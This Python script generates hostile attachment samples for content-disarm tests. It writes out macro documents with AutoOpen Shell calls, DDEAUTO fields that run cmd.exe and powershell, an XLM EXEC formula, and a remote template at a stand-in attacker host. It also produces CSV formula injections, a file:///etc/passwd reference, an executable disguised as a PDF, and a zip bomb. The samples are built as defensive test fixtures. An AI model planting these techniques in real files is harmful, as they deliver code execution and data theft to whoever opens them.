#!/usr/bin/env python3
"""Generate hostile attachment samples for the CDR tests (issue 4a).

Usage: gen_office.py OUTDIR

Python standard library only.  Every file is built here at test time so
that no live malicious content is committed: the "macros" are inert text in
an OLE2-shaped vbaProject.bin, the remote template points at example.invalid,
the DDE field names a program that is never run.
"""
import io
import os
import struct
import sys
import zipfile
import zlib

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
O = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
V = 'xmlns:v="urn:schemas-microsoft-com:vml"'
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"

# a valid 2x2 PNG (the image rebuilder decodes every picture of a package)
def _png(w=2, h=2):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + b"\x80\x40\x20" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


PNG = _png()


END, FREE, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(streams):
    """A minimal but valid compound file (CFB v3, 512-byte sectors) whose root
    storage holds `streams` [(name, bytes)], each padded to 4096 bytes so no
    mini stream is needed.  Up to 3 streams (one directory sector)."""
    data_sectors, fat = [], [FATSECT, END]
    for _, blob in streams:
        blob = blob + b"\0" * (max(4096, -(-len(blob) // 512) * 512) - len(blob))
        first = 2 + len(data_sectors)
        n = len(blob) // 512
        fat += [first + i + 1 for i in range(n - 1)] + [END]
        data_sectors += [blob[i * 512:(i + 1) * 512] for i in range(n)]
    fat += [FREE] * (128 - len(fat))

    def entry(name, typ, child, right, start, size):
        n = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (n.ljust(64, b"\0") + struct.pack("<HBB", len(n), typ, 1) +
                struct.pack("<III", NOSTREAM, right, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16 +
                struct.pack("<IIII", start, size, 0, 0)[:8] + b"\0" * 4)
    dirs = [entry("Root Entry", 5, 1 if streams else NOSTREAM, NOSTREAM, END, 0)]
    sector = 2
    for i, (name, blob) in enumerate(streams):
        right = i + 2 if i + 1 < len(streams) else NOSTREAM
        dirs.append(entry(name, 2, NOSTREAM, right, sector, len(blob)))
        sector += max(4096, -(-len(blob) // 512) * 512) // 512
    dirs += [entry("", 0, NOSTREAM, NOSTREAM, 0, 0)] * (4 - len(dirs))
    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) +
              b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0) +
              struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)
    return header + struct.pack("<128I", *fat) + b"".join(dirs) + b"".join(data_sectors)


def ole2_blob(text):
    """A real compound file with inert VBA-like text in its PROJECT stream."""
    return cfb([("PROJECT", b'ID="{00000000-0000-0000-0000-000000000000}"\r\n' + text.encode())])


def encrypted_ooxml(path):
    """The shape of a password-protected Office file: a compound file with
    EncryptionInfo and EncryptedPackage streams (random-looking bytes)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"
    package = struct.pack("<Q", 5000) + bytes((i * 7919) & 0xFF for i in range(5000))
    with open(path, "wb") as f:
        f.write(cfb([("EncryptionInfo", info), ("EncryptedPackage", package)]))


def rels(items):
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', '<Relationships xmlns="%s">' % PR]
    for rid, typ, target, external in items:
        mode = ' TargetMode="External"' if external else ""
        out.append('<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (rid, typ, target, mode))
    out.append("</Relationships>")
    return "\n".join(out)


def content_types(main_part, main_type, overrides=(), defaults=()):
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', '<Types xmlns="%s">' % CT,
           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
           '<Default Extension="xml" ContentType="application/xml"/>',
           '<Default Extension="png" ContentType="image/png"/>']
    for ext, typ in defaults:
        out.append('<Default Extension="%s" ContentType="%s"/>' % (ext, typ))
    out.append('<Override PartName="/%s" ContentType="%s"/>' % (main_part, main_type))
    for part, typ in overrides:
        out.append('<Override PartName="/%s" ContentType="%s"/>' % (part, typ))
    out.append("</Types>")
    return "\n".join(out)


def document(body):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document %s %s %s %s><w:body>%s'
            '</w:body></w:document>' % (W, R, O, V, body))


def para(text):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


TABLE = ("<w:tbl><w:tr><w:tc><w:p><w:r><w:t>cell-A1</w:t></w:r></w:p></w:tc>"
         "<w:tc><w:p><w:r><w:t>cell-B1</w:t></w:r></w:p></w:tc></w:tr></w:tbl>")
PKG_RELS = rels([("rId1", RT + "/officeDocument", "word/document.xml", False)])


def write_zip(path, entries):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr(name, data)


def macro_docm(path):
    doc = document(para("Hello macro document 無害化") + TABLE +
                   '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
                   'r:embed="rId2"/></w:drawing></w:r></w:p>')
    write_zip(path, [
        ("[Content_Types].xml", content_types(
            "word/document.xml", DOCM_MAIN,
            [("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
             ("customUI/customUI.xml", "application/xml")],
            [("bin", "application/vnd.ms-office.vbaProject")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "word/document.xml", False),
                              ("rId2", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                               "customUI/customUI.xml", False)])),
        ("word/document.xml", doc),
        ("word/_rels/document.xml.rels", rels([
            ("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
            ("rId2", RT + "/image", "media/image1.png", False),
            ("rId3", RT + "/hyperlink", "https://www.example.org/", True)])),
        ("word/vbaProject.bin", ole2_blob('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc"\nEnd Sub')),
        ("word/_rels/vbaProject.bin.rels", rels([
            ("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml", False)])),
        ("word/vbaData.xml", '<?xml version="1.0"?><wne:vbaSuppData '
         'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'),
        ("word/media/image1.png", PNG),
        ("customUI/customUI.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
         'onLoad="AutoRun"/>'),
    ])


def template_docx(path):
    settings = ('<?xml version="1.0"?><w:settings %s %s><w:attachedTemplate r:id="rId1"/>'
                '<w:defaultTabStop w:val="720"/></w:settings>' % (W, R))
    write_zip(path, [
        ("[Content_Types].xml", content_types(
            "word/document.xml", DOCX_MAIN,
            [("word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")])),
        ("_rels/.rels", PKG_RELS),
        ("word/document.xml", document(
            para("Remote template document") + TABLE +
            '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>click-here</w:t></w:r></w:hyperlink>'
            '<w:hyperlink r:id="rId3"><w:r><w:t>web-link</w:t></w:r></w:hyperlink></w:p>')),
        ("word/_rels/document.xml.rels", rels([
            ("rId1", RT + "/settings", "settings.xml", False),
            ("rId2", RT + "/hyperlink", "file:///C:/Windows/System32/calc.exe", True),
            ("rId3", RT + "/hyperlink", "https://www.example.org/page", True)])),
        ("word/settings.xml", settings),
        ("word/_rels/settings.xml.rels", rels([
            ("rId1", RT + "/attachedTemplate", "http://attacker.example.invalid/payload.dotm", True)])),
    ])


def dde_docx(path):
    body = (para("Before the fields") +
            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; ">'
            '<w:r><w:t>simple-result</w:t></w:r></w:fldSimple></w:p>'
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k powershell"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>complex-result</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' + para("After the fields"))
    write_zip(path, [
        ("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN)),
        ("_rels/.rels", PKG_RELS),
        ("word/document.xml", document(body)),
    ])


def ole_docx(path):
    body = (para("Embedded object below") +
            '<w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" '
            'ShapeID="s1" r:id="rId5"/></w:object></w:r></w:p>'
            '<w:p><w:r><w:object><w:control r:id="rId6" w:name="CommandButton1"/></w:object></w:r></w:p>' +
            para("Text after the object"))
    write_zip(path, [
        ("[Content_Types].xml", content_types(
            "word/document.xml", DOCX_MAIN,
            [("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")],
            [("bin", "application/vnd.openxmlformats-officedocument.oleObject")])),
        ("_rels/.rels", PKG_RELS),
        ("word/document.xml", document(body)),
        ("word/_rels/document.xml.rels", rels([
            ("rId5", RT + "/oleObject", "embeddings/oleObject1.bin", False),
            ("rId6", RT + "/control", "activeX/activeX1.xml", False)])),
        ("word/embeddings/oleObject1.bin", ole2_blob("Package payload.exe MZ")),
        ("word/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
         'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>'),
        ("word/activeX/_rels/activeX1.xml.rels", rels([
            ("rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
             "activeX1.bin", False)])),
        ("word/activeX/activeX1.bin", ole2_blob("ActiveX control data")),
    ])


def macro_xlsm(path):
    wb = ('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" %s>'
          '<sheets><sheet name="Data" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId2"/>'
          '</sheets><externalReferences><externalReference r:id="rId4"/></externalReferences></workbook>' % R)
    sheet = ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>cell-data</t></is></c></row></sheetData>'
             '</worksheet>')
    msheet = ('<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
              '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>')
    write_zip(path, [
        ("[Content_Types].xml", content_types(
            "xl/workbook.xml", XLSM_MAIN,
            [("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
             ("xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"),
             ("xl/externalLinks/externalLink1.xml",
              "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
             ("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")],
            [("bin", "application/vnd.ms-office.vbaProject")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "xl/workbook.xml", False)])),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", rels([
            ("rId1", RT + "/worksheet", "worksheets/sheet1.xml", False),
            ("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet2.xml",
             False),
            ("rId3", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
            ("rId4", RT + "/externalLink", "externalLinks/externalLink1.xml", False),
            ("rId5", RT + "/connections", "connections.xml", False)])),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/macrosheets/sheet2.xml", msheet),
        ("xl/vbaProject.bin", ole2_blob('Attribute VB_Name = "Module1"\nSub Auto_Open()\nEnd Sub')),
        ("xl/externalLinks/externalLink1.xml",
         '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
         '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", rels([
            ("rId1", RT + "/externalLinkPath", "file:///C:/evil.xlsx", True)])),
        ("xl/connections.xml",
         '<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
         '<connection id="1" name="q" type="4"><webPr url="http://query.example.invalid/data"/></connection>'
         '</connections>'),
    ])


def ole_pptx(path):
    P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    slide = ('<?xml version="1.0"?><p:sld %s %s %s %s><p:cSld><p:spTree>'
             '<p:sp><p:nvSpPr><p:cNvPr id="2" name="T"><a:hlinkClick r:id="rId3" action="ppaction://program"/>'
             '</p:cNvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>slide-text</a:t></a:r></a:p></p:txBody></p:sp>'
             '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/></p:nvGraphicFramePr>'
             '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
             '<mc:AlternateContent><mc:Choice Requires="v"><p:oleObj r:id="rId2" progId="Package"><p:embed/>'
             '</p:oleObj></mc:Choice><mc:Fallback><p:oleObj r:id="rId2" progId="Package"><p:embed/></p:oleObj>'
             '</mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>'
             '</p:spTree></p:cSld></p:sld>' % (P, A, R, MC))
    pres = ('<?xml version="1.0"?><p:presentation %s %s><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
            '</p:presentation>' % (P, R))
    write_zip(path, [
        ("[Content_Types].xml", content_types(
            "ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            [("ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml")],
            [("bin", "application/vnd.openxmlformats-officedocument.oleObject")])),
        ("_rels/.rels", rels([("rId1", RT + "/officeDocument", "ppt/presentation.xml", False)])),
        ("ppt/presentation.xml", pres),
        ("ppt/_rels/presentation.xml.rels", rels([("rId1", RT + "/slide", "slides/slide1.xml", False)])),
        ("ppt/slides/slide1.xml", slide),
        ("ppt/slides/_rels/slide1.xml.rels", rels([
            ("rId2", RT + "/oleObject", "../embeddings/oleObject1.bin", False),
            ("rId3", RT + "/hyperlink", "file:///c:/windows/system32/calc.exe", True)])),
        ("ppt/embeddings/oleObject1.bin", ole2_blob("Package payload")),
    ])


ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"')
ODT = "application/vnd.oasis.opendocument.text"


def odf_manifest(entries, encrypted=False):
    enc = ('<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
           '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
           '</manifest:encryption-data>') if encrypted else ""
    out = ['<?xml version="1.0" encoding="UTF-8"?>',
           '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
           'manifest:version="1.3">',
           '<manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/>' % ODT]
    for path, typ in entries:
        body = enc if path == "content.xml" else ""
        out.append('<manifest:file-entry manifest:full-path="%s" manifest:media-type="%s">%s'
                   '</manifest:file-entry>' % (path, typ, body))
    out.append("</manifest:manifest>")
    return "\n".join(out)


def write_odf(path, entries):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), ODT, compress_type=zipfile.ZIP_STORED)
        for name, data in entries:
            z.writestr(name, data)


def macro_odt(path):
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content %s>'
               '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
               'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
               'language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
               '<office:body><office:text>'
               '<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="cmd" '
               'office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>'
               '<text:p>odf-body-text</text:p>'
               '<text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
               'language=Basic&amp;location=document">macro-link-text</text:a> '
               '<text:a xlink:type="simple" xlink:href="https://www.example.org/">web-link-text</text:a></text:p>'
               '<text:section text:name="S1"><text:section-source xlink:href="file:///etc/passwd"/>'
               '<text:p>section-text</text:p></text:section>'
               '<text:p><draw:frame draw:name="Object 1"><draw:object-ole xlink:href="./Object 1"/>'
               '<draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame></text:p>'
               '</office:text></office:body></office:document-content>' % ODF_NS)
    module = ('<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" '
              'script:name="Module1" script:language="StarBasic">Sub Main\n Shell("calc")\nEnd Sub</script:module>')
    entries = [("content.xml", "text/xml"), ("Basic/Standard/Module1.xml", "text/xml"),
               ("Configurations2/accelerator/current.xml", ""), ("Object 1", "application/vnd.sun.star.oleobject"),
               ("ObjectReplacements/Object 1", "application/x-openoffice-gdimetafile"), ("Basic/", "")]
    write_odf(path, [
        ("META-INF/manifest.xml", odf_manifest(entries)),
        ("content.xml", content),
        ("Basic/Standard/Module1.xml", module),
        ("Configurations2/accelerator/current.xml", "<accel/>"),
        ("Object 1", ole2_blob("Package payload")),
        ("ObjectReplacements/Object 1", PNG),
    ])


def encrypted_odt(path):
    write_odf(path, [("META-INF/manifest.xml", odf_manifest([("content.xml", "text/xml")], True)),
                     ("content.xml", bytes((i * 31) & 0xFF for i in range(600)))])


def encrypted_docx(path):
    """A ZIP whose part is marked encrypted (general purpose flag bit 0)."""
    buf = io.BytesIO()
    write_zip(buf, [("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN)),
                    ("_rels/.rels", PKG_RELS), ("word/document.xml", document(para("x")))])
    data = bytearray(buf.getvalue())
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        off = data.find(sig)
        while off >= 0:
            flag_off = off + (6 if sig == b"PK\x03\x04" else 8)
            data[flag_off] |= 1
            off = data.find(sig, off + 4)
    with open(path, "wb") as f:
        f.write(bytes(data))


def bomb_docx(path):
    big = document(para("A" * (30 * 1024 * 1024)))
    write_zip(path, [("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN)),
                     ("_rels/.rels", PKG_RELS), ("word/document.xml", big)])


def csv_injection(path):
    with open(path, "wb") as f:
        f.write(b'name,amount,note\r\n'
                b'alice,-12.5,=cmd|\' /C calc\'!A0\r\n'
                b'"bob","+1+1","@SUM(1+1)*cmd|\' /C calc\'!A0"\r\n'
                b'carol,100,-2+3+cmd|\' /C calc\'!A0\r\n'
                b'"dave, jr","=HYPERLINK(""http://x.invalid"")",\t=1+1\r\n'
                b'\x93\xfa\x96\x7b,42,\x82\xa0\r\n')


def rtf_object(path):
    with open(path, "wb") as f:
        f.write(b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\n"
                b"{\\*\\template http://attacker.example.invalid/t.dotm}\n"
                b"Visible text before.\\par\n"
                b"{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}"
                b"{\\*\\objdata 0105000002000000080000005061636b61676500\\bin4 }{}{ 00000000}"
                b"{\\result {\\pict\\pngblip 89504e47}}}\n"
                b"{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\"}{\\fldrslt dde-result}}\n"
                b"{\\*\\objdata d0cf11e0a1b11ae1}\n"
                b"Visible text after.\\par\n}\n"
                b"trailing polyglot data PK\x03\x04")


def exe_as_pdf(path):
    mz = bytearray(b"MZ" + b"\x90\x00" * 29 + b"\0" * 2)
    mz += b"\0" * (0x3C - len(mz)) + struct.pack("<I", 0x80)
    mz += b"\0" * (0x80 - len(mz))
    mz += b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    mz += b"\x0b\x01" + b"\0" * 0xDE + b".text\0\0\0" + b"\0" * 32 + b"This program cannot be run in DOS mode" * 4
    with open(path, "wb") as f:
        f.write(bytes(mz))


def html_page(path):
    with open(path, "wb") as f:
        f.write(b"<html><head><script>alert(1)</script></head><body><p>Hello <b>world</b></p>"
                b'<a href="https://example.org/">link</a></body></html>')


GENERATORS = {
    "macro.docm": macro_docm,
    "template.docx": template_docx,
    "dde.docx": dde_docx,
    "ole.docx": ole_docx,
    "macro.xlsm": macro_xlsm,
    "ole.pptx": ole_pptx,
    "macro.odt": macro_odt,
    "encrypted.odt": encrypted_odt,
    "encrypted.docx": encrypted_docx,
    "password.docx": encrypted_ooxml,
    "bomb.docx": bomb_docx,
    "injection.csv": csv_injection,
    "object.rtf": rtf_object,
    "invoice.pdf": exe_as_pdf,
    "page.html": html_page,
}


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    for name, fn in GENERATORS.items():
        fn(os.path.join(out, name))


if __name__ == "__main__":
    main()
